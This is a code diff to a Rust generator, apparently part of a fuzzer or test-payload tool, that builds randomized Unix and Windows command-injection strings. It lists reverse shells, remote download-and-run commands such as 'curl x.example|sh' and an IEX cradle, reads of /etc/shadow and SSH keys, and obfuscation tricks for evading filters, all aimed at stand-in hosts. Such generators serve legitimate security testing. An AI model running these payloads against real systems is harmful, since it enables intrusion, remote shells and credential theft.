@@ -607,34 +607,30 @@ fn java(rng: &mut Rng) -> String {
     }
 }
 
-/// Unix and Windows command injection: a separator, a command with its
-/// arguments, in several quoting and substitution styles.
+/// Unix and Windows command injection from the shell grammar: a context
+/// the value closes, a separator, a command of one family with its
+/// arguments, the command word obfuscated one of the ways a shell undoes
+/// (quotes, backslashes, empty variables, globs, absolute paths, brace
+/// expansion, `cmd` carets) and blanks written as `${IFS}` and the like.
 fn rce(rng: &mut Rng) -> String {
-    let sep = rng.pick(&[";", "|", "||", "&&", "&", "\n", "`", "$("]);
-    let cmd = rng.pick(&[
-        "cat /etc/passwd",
-        "id",
-        "whoami",
-        "uname -a",
-        "ls -la /",
-        "wget http://x.example/s -O /tmp/s",
-        "curl -s x.example|sh",
-        "nc -e /bin/sh x.example 4444",
-        "ping -c 3 127.0.0.1",
-        "sleep 5",
-        "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
-        "powershell -enc SQBFAFgA",
-        "cmd /c dir",
-        "type c:\\windows\\win.ini",
-        "python -c 'import os;os.system(\"id\")'",
-        "echo $PATH",
-        "rm -rf /tmp/x",
-        "net user",
+    if rng.chance(25) {
+        return windows_rce(rng);
+    }
+    let sep = rng.pick(&[
+        ";", "|", "||", "&&", "&", "\n", "`", "$(", "\r\n", "; ", " | ", " && ",
     ]);
-    let cmd = match rng.below(4) {
-        0 => cmd.replace(' ', "${IFS}"),
-        1 => cmd.replacen('a', "'a'", 1),
-        _ => cmd.to_owned(),
+    let (word, args) = unix_command(rng);
+    let blank = rng.pick(&[" ", " ", " ", "${IFS}", "$IFS$9", "\t", "${IFS%?}"]);
+    let command = if args.is_empty() {
+        obfuscate_word(rng, word)
+    } else if rng.chance(10) {
+        format!("{{{word},{}}}", args.replace(' ', ","))
+    } else {
+        format!(
+            "{}{blank}{}",
+            obfuscate_word(rng, word),
+            args.replace(' ', blank)
+        )
     };
     let close = match sep {
         "`" => "`",
@@ -642,7 +638,149 @@ fn rce(rng: &mut Rng) -> String {
         _ => "",
     };
     format!(
-        "{}{sep}{cmd}{close}",
+        "{}{sep}{command}{close}",
+        rng.pick(&[
+            "1",
+            "x",
+            "",
+            "127.0.0.1",
+            "a.txt",
+            "1'",
+            "x\"",
+            "foo.example"
+        ])
+    )
+}
+
+/// A Unix command word and its arguments, from one family: reading files,
+/// recon, fetching, reverse shells, interpreters, file changes, timing.
+fn unix_command(rng: &mut Rng) -> (&'static str, &'static str) {
+    let families: [&[(&str, &str)]; 7] = [
+        &[
+            ("cat", "/etc/passwd"),
+            ("tac", "/etc/shadow"),
+            ("head", "-n 5 /etc/hosts"),
+            ("tail", "/var/log/auth.log"),
+            ("more", "/etc/issue"),
+            ("nl", "/proc/self/environ"),
+            ("less", "~/.ssh/id_rsa"),
+            ("xxd", "/etc/passwd"),
+        ],
+        &[
+            ("id", ""),
+            ("whoami", ""),
+            ("uname", "-a"),
+            ("hostname", ""),
+            ("ifconfig", ""),
+            ("ps", "aux"),
+            ("ls", "-la /"),
+            ("env", ""),
+        ],
+        &[
+            ("wget", "http://x.example/s -O /tmp/s"),
+            ("curl", "-s http://x.example/s -o /tmp/s"),
+            ("curl", "x.example|sh"),
+            ("tftp", "-i 192.0.2.7 get s"),
+        ],
+        &[
+            ("nc", "-e /bin/sh 192.0.2.7 4444"),
+            ("ncat", "192.0.2.7 4444 -e /bin/bash"),
+            ("bash", "-i >& /dev/tcp/192.0.2.7/4444 0>&1"),
+            ("socat", "tcp:192.0.2.7:4444 exec:sh"),
+            ("telnet", "192.0.2.7 4444"),
+        ],
+        &[
+            ("python", "-c 'import os;os.system(\"id\")'"),
+            ("python3", "-c 'import pty;pty.spawn(\"sh\")'"),
+            ("perl", "-e 'exec \"/bin/sh\"'"),
+            ("php", "-r 'system(\"id\");'"),
+            ("ruby", "-e 'exec \"id\"'"),
+            ("sh", "-c id"),
+        ],
+        &[
+            ("rm", "-rf /tmp/x"),
+            ("chmod", "+x /tmp/s"),
+            ("echo", "x > /var/www/html/s.php"),
+            ("touch", "/tmp/pwned"),
+            ("crontab", "-l"),
+        ],
+        &[
+            ("sleep", "5"),
+            ("ping", "-c 3 127.0.0.1"),
+            ("nslookup", "x.example"),
+            ("dig", "x.example"),
+        ],
+    ];
+    let family = families[rng.below(families.len())];
+    family[rng.below(family.len())]
+}
+
+/// A command word written as a shell reads it back to the same word.
+fn obfuscate_word(rng: &mut Rng, word: &str) -> String {
+    // Every word has two letters or more: both halves are non-empty.
+    let (a, b) = word.split_at(1 + rng.below(word.len() - 1));
+    match rng.below(10) {
+        0 => format!("{a}'{b}'"),
+        1 => format!("{a}\"\"{b}"),
+        2 => format!("{a}\\{b}"),
+        3 => format!("{a}$@{b}"),
+        4 => format!("{a}${{u}}{b}"),
+        5 => format!("/bin/{word}"),
+        6 => format!("/usr/bin/{word}"),
+        7 => {
+            // A glob matching the word: some letters as `?`.
+            let glob: String = word
+                .chars()
+                .enumerate()
+                .map(|(i, c)| if i % 2 == 1 { '?' } else { c })
+                .collect();
+            format!("/???/{glob}")
+        }
+        _ => word.to_owned(),
+    }
+}
+
+/// Windows `cmd` and `PowerShell` injection: `&`, `|`, carets, quotes,
+/// environment variables, encoded commands, download cradles.
+fn windows_rce(rng: &mut Rng) -> String {
+    let sep = rng.pick(&["&", "&&", "|", "||", "\r\n", " & ", " | "]);
+    let command = rng.pick(&[
+        "whoami",
+        "net user",
+        "net localgroup administrators",
+        "ipconfig /all",
+        "systeminfo",
+        "tasklist",
+        "type c:\\windows\\win.ini",
+        "dir c:\\",
+        "cmd /c whoami",
+        "%COMSPEC% /c whoami",
+        "powershell -enc SQBFAFgA",
+        "powershell -nop -w hidden -c whoami",
+        "certutil -urlcache -split -f http://x.example/s.exe s.exe",
+        "IEX(New-Object Net.WebClient).DownloadString('http://x.example/a')",
+        "bitsadmin /transfer j http://x.example/s.exe c:\\s.exe",
+        "wmic process call create calc",
+    ]);
+    let (word, rest) = command.split_once(' ').unwrap_or((command, ""));
+    let word = match rng.below(4) {
+        0 if !word.starts_with('%') => {
+            // `cmd` drops a caret before any character.
+            let mut out = String::new();
+            for (i, c) in word.chars().enumerate() {
+                if i > 0 && i % 2 == 0 {
+                    out.push('^');
+                }
+                out.push(c);
+            }
+            out
+        }
+        1 if word.len() > 2 => format!("{}\"\"{}", &word[..2], &word[2..]),
+        _ => word.to_owned(),
+    };
+    let space = if rest.is_empty() { "" } else { " " };
+    format!(
+        "{}{sep}{word}{space}{rest}",
         rng.pick(&["1", "x", "", "127.0.0.1", "a.txt"])
     )
 }
